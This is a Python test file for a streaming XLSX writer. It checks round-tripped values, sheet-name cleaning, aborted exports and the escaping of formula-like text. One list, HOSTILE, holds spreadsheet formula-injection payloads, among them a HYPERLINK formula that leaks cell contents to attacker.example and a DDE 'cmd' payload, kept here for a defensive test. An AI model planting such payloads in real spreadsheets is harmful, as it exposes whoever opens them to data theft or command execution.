"""The streaming XLSX writer produces workbooks spreadsheet programs read back intact."""

from __future__ import annotations

import io

import pytest
from openpyxl import load_workbook

from bot.core.spreadsheet import XlsxWriter, column_letter


def test_column_letters() -> None:
    assert [column_letter(i) for i in (0, 25, 26, 51, 701, 702)] == [
        "A", "Z", "AA", "AZ", "ZZ", "AAA"]


def test_values_round_trip_through_openpyxl() -> None:
    out = io.BytesIO()
    book = XlsxWriter(out)
    first = book.sheet("Theo đơn vị: [tổng]")
    first.append(["Xã Long Đống", 3, 2.5, None, "A & B <c> \"d\"", "  cách  "])
    first.append(["bell\x07gone", 0])
    second = book.sheet("Từng tài khoản")
    second.append(["Tuần 1", "Chính thức"])
    book.close()
    workbook = load_workbook(io.BytesIO(out.getvalue()))
    assert workbook.sheetnames == ["Theo đơn vị   tổng ", "Từng tài khoản"]
    rows = [list(r) for r in workbook.worksheets[0].iter_rows(values_only=True)]
    assert rows == [["Xã Long Đống", 3, 2.5, None, "A & B <c> \"d\"", "  cách  "],
                    ["bellgone", 0, None, None, None, None]]
    assert [list(r) for r in workbook.worksheets[1].iter_rows(values_only=True)] == [
        ["Tuần 1", "Chính thức"]]


# What people may type into a deed, a village or a works name, and what Excel would run.
HOSTILE = ['=HYPERLINK("http://attacker.example/?x="&A1,"Bấm vào đây")', "+1+cmd|' /C calc'!A0",
           "-2+3", "@SUM(1,2)", "\t=1+1", "\r=1+1", "=1+1"]


def test_text_that_starts_like_a_formula_is_written_as_text() -> None:
    out = io.BytesIO()
    book = XlsxWriter(out)
    sheet = book.sheet("Hostile")
    sheet.append([*HOSTILE, -5, "an toàn"])
    book.close()
    cells = next(load_workbook(io.BytesIO(out.getvalue())).worksheets[0].iter_rows())
    assert [c.data_type for c in cells] == ["s"] * len(HOSTILE) + ["n", "s"]
    assert [c.value for c in cells[:len(HOSTILE)]] == HOSTILE  # kept exactly as typed
    # Excel, LibreOffice and Google Sheets show these as text even after an edit.
    assert all(c.quotePrefix for c in cells[:len(HOSTILE)])
    assert not cells[-1].quotePrefix and cells[-2].value == -5


def test_a_workbook_given_up_half_way_leaves_nothing_open() -> None:
    """An export whose rows stop coming (a stream that failed, a retried message) is
    aborted: its sheet and zip are closed, so nothing complains when it is collected."""
    book = XlsxWriter(io.BytesIO())
    stream = book.sheet("Tiến độ")
    stream.append(["Xã Nhân Lý", 3])
    book.abort()
    assert stream._stream.closed and book._zip.fp is None
    book.abort()  # twice is harmless


def test_a_block_that_raises_gives_its_workbook_up() -> None:
    with pytest.raises(ConnectionError), XlsxWriter(io.BytesIO()) as book:
        stream = book.sheet("Tiến độ")
        stream.append(["Xã Nhân Lý", 3])
        raise ConnectionError("rows stopped coming")
    assert stream._stream.closed and book._zip.fp is None
